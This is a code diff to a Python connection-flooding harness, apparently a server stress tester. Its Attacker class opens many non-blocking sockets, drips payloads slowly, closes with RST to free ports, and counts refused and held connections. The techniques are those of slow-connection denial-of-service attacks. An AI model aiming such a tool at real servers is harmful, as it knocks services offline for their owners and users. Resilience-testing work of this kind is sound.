@@ -9,6 +9,7 @@ import json
 import os
 import select
 import socket
+import struct
 import sys
 import time
 from collections.abc import Sequence
@@ -25,6 +26,8 @@ DRIP_SECONDS = 1.0
 SEND_BYTES = 1 << 18
 ENDED = select.EPOLLHUP | select.EPOLLERR | select.EPOLLRDHUP
 HEAD_BYTES = 65536
+RESET = struct.pack("ii", 1, 0)
+"""Closes with RST: no port stays taken for a minute."""
 
 
 @dataclass
@@ -33,7 +36,7 @@ class Attacked:
 
     opened: int = 0
     unopened: int = 0
-    """Attempts that failed."""
+    """Attempts that were refused."""
     ended: int = 0
     """By the server."""
     still_open: int = 0
@@ -55,7 +58,8 @@ class Client:
 
     def __init__(self, sock: socket.socket, opening: bytes) -> None:
         self.sock = sock
-        self.opened_at = time.monotonic()
+        self.is_connecting = True
+        self.opened_at = 0.0
         self.unsent = memoryview(opening)
         self.head: bytes | None = b""
         """What came of the answer to a WebSocket's handshake; None when it has been accepted, or where there is none."""
@@ -82,7 +86,7 @@ class Attacker:
             now = time.monotonic() - begun
             if now >= longest or (now >= seconds and (self._attack.lasts or self._is_over())):
                 break
-            if now < seconds:
+            if now < seconds or not self._attack.lasts:
                 self._open_some()
             if self._attack.drips:
                 self._drip()
@@ -92,7 +96,7 @@ class Attacker:
                     self._serve(client, events)
             if self.done.refusal:
                 break
-        self.done.still_open = len(self._clients)
+        self.done.still_open = sum(not each.is_connecting for each in self._clients.values())
         return self.done
 
     def _is_over(self) -> bool:
@@ -109,19 +113,14 @@ class Attacker:
         sock = socket.socket()
         if not self._attack.reads:
             sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
-        # The backlog of a server that does not accept may be full.
-        sock.settimeout(1.0)
-        try:
-            sock.connect(self._address)
-        except OSError:
-            sock.close()
-            self.done.unopened += 1
-            return
+        # The backlog of a server that accepts slowly is full, and the kernel tries again.
         sock.setblocking(False)
+        if not self._attack.leaves:
+            sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, RESET)
+        sock.connect_ex(self._address)
         client = Client(sock, self._opening)
         if self._attack.protocol != WEBSOCKET:
             client.head = None
-        self.done.opened += 1
         self._clients[sock.fileno()] = client
         self._epoll.register(sock, select.EPOLLOUT | self._interest)
 
@@ -130,6 +129,14 @@ class Attacker:
         return ENDED | (select.EPOLLIN if self._attack.reads else 0)
 
     def _serve(self, client: Client, events: int) -> None:
+        if client.is_connecting:
+            if events & (select.EPOLLHUP | select.EPOLLERR):
+                self._close(client, ended=False)
+                self.done.unopened += 1
+                return
+            client.is_connecting = False
+            client.opened_at = time.monotonic()
+            self.done.opened += 1
         try:
             if events & select.EPOLLIN and not self._read(client):
                 self._close(client, ended=True)
@@ -190,7 +197,11 @@ class Attacker:
     def _drip(self) -> None:
         now = time.monotonic()
         for client in list(self._clients.values()):
-            if not client.unsent and now - client.dripped_at >= DRIP_SECONDS:
+            if (
+                not client.is_connecting
+                and not client.unsent
+                and now - client.dripped_at >= DRIP_SECONDS
+            ):
                 client.dripped_at = now
                 try:
                     self.done.sent += client.sock.send(self._payload)
